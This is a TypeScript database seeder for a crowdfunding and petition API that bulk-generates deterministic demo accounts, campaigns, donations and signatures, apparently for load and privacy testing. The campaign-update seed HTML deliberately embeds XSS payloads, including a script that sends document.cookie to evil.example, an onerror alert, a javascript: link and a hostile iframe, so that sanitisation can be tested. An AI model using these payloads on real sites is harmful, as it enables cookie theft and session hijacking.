@@ -1,0 +1,178 @@
+import type { DataSource } from 'typeorm';
+import type { Seeder } from '../seed/seeder';
+import { COUNTRY_NAMES } from './common/countries';
+
+/**
+ * Deterministic demo data of the public content API, public and private side, generated in PostgreSQL with
+ * bulk `INSERT … SELECT generate_series` (so `--scale 2000` — 100,000 campaigns, 1,000,000 signatures — takes
+ * seconds, not hours). Every value derives from the row number through md5/hashtext, so a scale always yields
+ * the same rows; ids are stable, so seeding again adds only what a larger scale adds.
+ *
+ * Per scale unit: 100 accounts (30 % with a public profile), 50 campaigns in every state with 2 updates of
+ * hostile HTML each and 4 donations, 20 petitions in every state, 500 signatures.
+ * Private values follow recognisable patterns (`@private.example`, "Private … comment") for privacy tests.
+ */
+export const CONTENT_SEED = {
+  accounts: 100,
+  campaigns: 50,
+  petitions: 20,
+  donations: 200,
+  signatures: 500,
+};
+
+const CODES = Object.keys(COUNTRY_NAMES);
+const CURRENCY: Record<string, string> = { GH: 'GHS', NG: 'NGN', KE: 'KES', ZA: 'ZAR', GB: 'GBP', US: 'USD' };
+const CATEGORIES = ['education', 'health', 'water', 'environment', 'emergency', 'community', 'arts'];
+const FIRST = [
+  'Ama',
+  'Kofi',
+  'Efua',
+  'Kwame',
+  'Abena',
+  'Yaw',
+  'Chidi',
+  'Ngozi',
+  'Wanjiru',
+  'Thabo',
+  'Amara',
+  'Tunde',
+];
+const LAST = [
+  'Mensah',
+  'Boateng',
+  'Owusu',
+  'Okafor',
+  'Adeyemi',
+  'Kamau',
+  'Nkosi',
+  'Asante',
+  'Diallo',
+  'Osei',
+];
+
+/** A SQL expression picking from `list` by a hash of `seed || i` (deterministic). */
+const pick = (list: string[], seed: string, i = 'i') =>
+  `(ARRAY[${list.map((v) => `'${v.replace(/'/g, "''")}'`).join(',')}])[1 + abs(hashtext('${seed}' || ${i})) % ${list.length}]`;
+/** A deterministic integer in [0, n). */
+const num = (seed: string, n: number, i = 'i') => `(abs(hashtext('${seed}' || ${i})) % ${n})`;
+const id = (prefix: string, kind: string, i = 'i') => `'${prefix}_' || substr(md5('${kind}' || ${i}), 1, 22)`;
+
+export const contentSeeder: Seeder = {
+  name: 'content',
+  order: 20,
+  async run(ds: DataSource, opts) {
+    const s = Math.max(1, Math.floor(opts.scale));
+    const n = Object.fromEntries(
+      Object.entries(CONTENT_SEED).map(([k, v]) => [k, v * s]),
+    ) as typeof CONTENT_SEED;
+    const currency = `COALESCE((ARRAY[${Object.entries(CURRENCY)
+      .map(([c, cur]) => `'${c}:${cur}'`)
+      .join(',')}]::text[])[array_position(ARRAY[${Object.keys(CURRENCY)
+      .map((c) => `'${c}'`)
+      .join(',')}]::text[], cc)], ':USD')`;
+    const countryName = `(ARRAY[${CODES.map((c) => `'${COUNTRY_NAMES[c].replace(/'/g, "''")}'`).join(',')}])[array_position(ARRAY[${CODES.map((c) => `'${c}'`).join(',')}], cc)]`;
+    const t0 = Date.now();
+
+    await ds.query(
+      `INSERT INTO content.account (id, username, full_name, email, phone, bio, avatar_url, country, account_type, public_profile, created_at)
+       SELECT ${id('usr', 'account')}, lower(${pick(FIRST, 'af')}) || '_' || i,
+              ${pick(FIRST, 'af')} || ' ' || ${pick(LAST, 'al')},
+              'person' || i || '@private.example', '+23320' || lpad(i::text, 7, '0'),
+              CASE WHEN i % 4 = 0 THEN NULL ELSE 'I care about ' || ${pick(CATEGORIES, 'ab')} || '.' END,
+              CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/avatars/' || i || '.jpg' END,
+              ${pick(CODES, 'ac')}, (ARRAY['individual','organization','individual'])[1 + i % 3],
+              i % 10 < 3, now() - (${num('at', 1000)} || ' days')::interval
+         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
+      [n.accounts],
+    );
+
+    await ds.query(
+      `INSERT INTO content.campaign (id, slug, title, description, category, status, goal_amount, raised_amount, currency, image_url,
+                                     country, target_country, organizer_id, internal_notes, goal_reached_at, deadline, created_at)
+       SELECT ${id('cmp', 'campaign')}, 'campaign-' || i || '-' || lower(cat), title, 'Help us with ' || lower(title) || '. Every gift counts.',
+              cat, st, goal, CASE WHEN st = 'won' THEN goal + ${num('rx', 500)} ELSE least(goal - 1, ${num('rr', 100000)}) END,
+              split_part(${currency}, ':', 2),
+              CASE WHEN i % 5 = 0 THEN NULL ELSE 'https://cdn.example/campaigns/' || i || '.jpg' END,
+              CASE WHEN i % 9 = 0 THEN NULL ELSE ${countryName} END, CASE WHEN i % 9 = 0 THEN NULL ELSE cc END,
+              ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, 'Internal note ' || i || ': organizer verified by phone',
+              CASE WHEN st = 'won' THEN created + interval '20 days' END,
+              CASE WHEN i % 4 = 0 THEN NULL ELSE created + interval '90 days' END, created
+         FROM (SELECT i, ${pick(CATEGORIES, 'cc')} AS cat, ${pick(CODES, 'cn')} AS cc,
+                      (ARRAY['active','active','active','won','draft','pending_review','paused','closed','rejected'])[1 + i % 9] AS st,
+                      (1000 + ${num('cg', 100)} * 500)::numeric AS goal,
+                      initcap(${pick(['clean water for', 'school books for', 'a clinic in', 'solar lamps for', 'flood relief in', 'a library in'], 'ct')}) || ' ' || ${pick(['Tamale', 'Kumasi', 'Lagos', 'Nairobi', 'Durban', 'Kisumu', 'Ho', 'Accra'], 'cp')} AS title,
+                      now() - ((i % 700) || ' days')::interval - (i || ' seconds')::interval AS created
+                 FROM generate_series(1, $1) i) c
+       ON CONFLICT (id) DO NOTHING`,
+      [n.campaigns],
+    );
+
+    await ds.query(
+      `INSERT INTO content.campaign_update (id, campaign_id, author_id, title, content_html, media_urls, created_at)
+       SELECT ${id('cupd', 'update')}, ${id('cmp', 'campaign', `(1 + (i - 1) / 2)`)}, ${id('usr', 'account', `(1 + ((i - 1) / 2) % ${n.accounts})`)},
+              CASE WHEN i % 3 = 0 THEN NULL ELSE 'Update ' || i END,
+              '<p>Thank you! We reached <strong>' || (i % 100) || '%</strong> of our goal.</p>'
+                || '<script>document.location="https://evil.example/?c="+document.cookie</script>'
+                || '<img src="x" onerror="alert(' || i || ')"><a href="javascript:alert(1)">click me</a>'
+                || '<iframe src="https://evil.example/frame"></iframe><p style="color:red" onclick="steal()">More soon.</p>'
+                || '<a href="https://example.org/report/' || i || '">Read the report</a>',
+              CASE WHEN i % 2 = 0 THEN ARRAY['https://cdn.example/updates/' || i || '.jpg'] ELSE '{}'::text[] END,
+              now() - ((i % 300) || ' days')::interval
+         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
+      [n.campaigns * 2],
+    );
+
+    await ds.query(
+      `INSERT INTO content.donation (id, campaign_id, donor_id, donor_name, donor_email, amount, message, anonymous, created_at)
+       SELECT ${id('don', 'donation')}, ${id('cmp', 'campaign', `(1 + i % ${n.campaigns})`)},
+              CASE WHEN i % 2 = 0 THEN ${id('usr', 'account', `(1 + i % ${n.accounts})`)} END,
+              'Donor ' || ${pick(FIRST, 'df')} || ' ' || ${pick(LAST, 'dl')} || ' ' || i, 'donor' || i || '@private.example',
+              (5 + ${num('da', 500)})::numeric, 'Private donor message ' || i, i % 5 = 0,
+              now() - ((i % 365) || ' days')::interval
+         FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
+      [n.donations],
+    );
+
+    await ds.query(
+      `INSERT INTO content.petition (id, slug, title, description, category, status, petition_target, image_url, country, target_country,
+                                     creator_id, created_at)
+       SELECT ${id('pet', 'petition')}, 'petition-' || i || '-' || lower(cat), title, 'We ask the authorities: ' || lower(title) || '.',
+              cat, (ARRAY['active','active','active','draft','closed','victory','removed'])[1 + i % 7],
+              CASE WHEN i % 6 = 0 THEN NULL ELSE 1000 * (1 + ${num('pt', 50)}) END,
+              CASE WHEN i % 4 = 0 THEN NULL ELSE 'https://cdn.example/petitions/' || i || '.jpg' END,
+              CASE WHEN i % 8 = 0 THEN NULL ELSE ${countryName} END, CASE WHEN i % 8 = 0 THEN NULL ELSE cc END,
+              ${id('usr', 'account', `(1 + (i * 7) % ${n.accounts})`)}, now() - ((i % 500) || ' days')::interval - (i || ' seconds')::interval
+         FROM (SELECT i, ${pick(CATEGORIES, 'pc')} AS cat, ${pick(CODES, 'pn')} AS cc,
+                      initcap(${pick(['fix the road to', 'protect the forest of', 'fund nurses in', 'stop dumping in', 'light the streets of'], 'px')}) || ' ' || ${pick(['Tamale', 'Kumasi', 'Lagos', 'Nairobi', 'Durban', 'Ho', 'Accra'], 'pp')} AS title
+                 FROM generate_series(1, $1) i) p
+       ON CONFLICT (id) DO NOTHING`,
+      [n.petitions],
+    );
+
+    // Signatures: the big table. Only rows beyond what an earlier (smaller) seed wrote are added.
+    const [{ have }] = (await ds.query(`SELECT count(*)::int AS have FROM content.signature`)) as {
+      have: number;
+    }[];
+    if (have < n.signatures) {
+      await ds.query(
+        `INSERT INTO content.signature (petition_id, signer_id, signer_name, signer_email, comment, created_at)
+         SELECT ${id('pet', 'petition', `(1 + ${num('sp', n.petitions)})`)},
+                CASE WHEN i % 2 = 0 THEN ${id('usr', 'account', `(1 + i % ${n.accounts})`)} END,
+                'Signer ' || ${pick(FIRST, 'sf')} || ' ' || ${pick(LAST, 'sl')} || ' ' || i, 'signer' || i || '@private.example',
+                CASE WHEN i % 3 = 0 THEN 'Private signer comment ' || i END, now() - ((i % 40) || ' days')::interval
+           FROM generate_series($1::int + 1, $2::int) i`,
+        [have, n.signatures],
+      );
+      await ds.query(
+        `UPDATE content.petition p SET signatures_count = s.n
+           FROM (SELECT petition_id, count(*)::int AS n FROM content.signature GROUP BY petition_id) s
+          WHERE s.petition_id = p.id AND p.signatures_count <> s.n`,
+      );
+    }
+    await ds.query(
+      `ANALYZE content.campaign; ANALYZE content.petition; ANALYZE content.signature; ANALYZE content.account`,
+    );
+    opts.log(`content seeded in ${((Date.now() - t0) / 1000).toFixed(1)} s`);
+    return { ...n };
+  },
+};
